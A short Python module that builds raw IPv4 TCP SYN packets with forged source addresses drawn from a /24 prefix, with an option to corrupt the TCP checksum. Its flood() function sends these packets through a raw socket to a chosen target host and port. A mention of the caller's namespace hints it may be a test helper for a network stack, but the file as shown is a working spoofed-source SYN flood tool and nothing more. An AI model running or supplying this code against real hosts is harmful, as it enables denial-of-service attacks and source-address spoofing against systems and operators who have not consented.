"""Raw TCP SYNs from addresses that nobody has."""

import socket
import struct


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def segment(source, target, port, sequence, spoil=0):
    """An IPv4 packet with a SYN; `spoil` is added to the TCP checksum."""
    addresses = socket.inet_aton(source) + socket.inet_aton(target)

    def tcp(check):
        return struct.pack("!HHIIBBHHH", 40000, port, sequence, 0, 5 << 4, 0x02, 65535, check, 0)

    header = tcp(0)
    check = checksum(addresses + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header)) + header)
    # The kernel fills in the length, the identification and the checksum of the IP header.
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0) + addresses
    return packet + tcp((check + spoil) & 0xFFFF)


def flood(target, port, count, prefix, spoil=0):
    """Sends a SYN from each of `count` addresses of a /24, from the namespace of the caller."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for i in range(1, count + 1):
            raw.sendto(segment(f"{prefix}.{i}", target, port, 1000 * i, spoil), (target, 0))
